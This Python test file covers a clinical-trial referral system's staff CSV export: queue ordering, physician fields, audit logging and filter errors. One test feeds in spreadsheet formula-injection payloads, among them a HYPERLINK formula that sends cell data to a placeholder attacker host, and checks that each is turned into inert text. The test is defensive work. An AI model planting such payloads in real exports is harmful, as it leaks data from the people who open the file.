"""The export of the filtered queue: what a spreadsheet opens, safely, and its audit."""

from __future__ import annotations

import csv
import io

from queue_support import LIKELY_CHILD, actions, file_referral

from screener.models import AuditEvent, db


def _rows(response) -> list[dict]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_the_export_is_the_filtered_queue_in_queue_order(app, coordinator):
    _, later = file_referral(app, "child-newly-diagnosed", days_ago=1,
                             contact={"name": "María José Peña", "phone": "555-0101",
                                      "email": "mj@example.org", "best_time": "tardes"},
                             language="es")
    _, likely = file_referral(app, LIKELY_CHILD, days_ago=0,
                              contact={"name": "Sam Lee", "phone": "555-0102"})
    file_referral(app, "child-newly-diagnosed", status="contacting")
    response = coordinator.get("/staff/export.csv?status=new")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Cache-Control"] == "no-store"
    rows = _rows(response)
    assert [r["reference"] for r in rows] == [likely, later]
    first, second = rows
    assert first["best_verdict"] == "Likely eligible" and first["status"] == "new"
    assert first["candidate_trials"].split() == ["NCT03020030", "NCT03117751", "NCT03914625"]
    assert second == second | {"contact_name": "María José Peña", "contact_phone": "555-0101",
                               "contact_email": "mj@example.org", "best_time": "tardes",
                               "language": "es", "source": "patient", "assignee": "",
                               "best_verdict": "Needs review"}


def test_a_physicians_referral_exports_the_physician_and_practice(app, coordinator):
    _, reference = file_referral(app, source="physician",
                                 contact={"physician_name": "Dr. Ada Okafor",
                                          "practice": "Riverside Oncology", "phone": "555-0177"})
    row = _rows(coordinator.get("/staff/export.csv"))[0]
    assert row["reference"] == reference and row["contact_name"] == ""
    assert row["referring_physician"] == "Dr. Ada Okafor"
    assert row["practice"] == "Riverside Oncology" and row["contact_phone"] == "555-0177"
    page = coordinator.get("/staff/").get_data(True)
    assert "Dr. Ada Okafor" in page and "(referring physician)" in page


def test_cells_a_spreadsheet_would_run_as_formulas_are_made_text(app, coordinator):
    attacks = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "phone": "+1 555 0100",
               "email": "@SUM(1+1)", "best_time": "-2+3"}
    file_referral(app, contact=attacks)
    file_referral(app, contact={"name": "\tTabbed", "phone": "\r=1", "email": "ok@example.org",
                                "best_time": "any time"})
    rows = _rows(coordinator.get("/staff/export.csv"))
    cells = {r["contact_name"]: r for r in rows}
    evil = cells["'" + attacks["name"]]
    assert evil["contact_phone"] == "'+1 555 0100"
    assert evil["contact_email"] == "'@SUM(1+1)" and evil["best_time"] == "'-2+3"
    tabbed = cells["'\tTabbed"]
    assert tabbed["contact_phone"] == "'\r=1" and tabbed["contact_email"] == "ok@example.org"
    assert tabbed["best_time"] == "any time"
    for row in rows:  # no cell of any row starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_the_export_is_audited_with_its_filters_and_row_count(app, coordinator):
    file_referral(app)
    file_referral(app, source="physician")
    coordinator.get("/staff/export.csv?source=patient&verdict=needs_review")
    with app.app_context():
        event = db.session.query(AuditEvent).filter_by(action="exported").one()
        assert event.actor == "coordinator@example.org"
        assert event.detail == {"filters": {"verdict": "needs_review", "source": "patient"},
                                "rows": 1}
        assert "Test Family" not in str(event.detail)


def test_a_bad_filter_exports_nothing_and_says_why(app, coordinator):
    file_referral(app)
    response = coordinator.get("/staff/export.csv?received_from=yesterday")
    assert response.status_code == 400 and response.mimetype == "text/html"
    assert "“yesterday” is not a date" in response.get_data(True)
    assert "exported" not in actions(app)


def test_the_queue_links_to_the_export_of_its_filters(app, coordinator):
    file_referral(app)
    page = coordinator.get("/staff/?status=new&source=patient").get_data(True)
    assert 'href="/staff/export.csv?status=new&amp;source=patient"' in page
    assert "Export these 1 referrals as CSV" in page


def test_admins_export_too(app, admin):
    file_referral(app)
    assert len(_rows(admin.get("/staff/export.csv"))) == 1
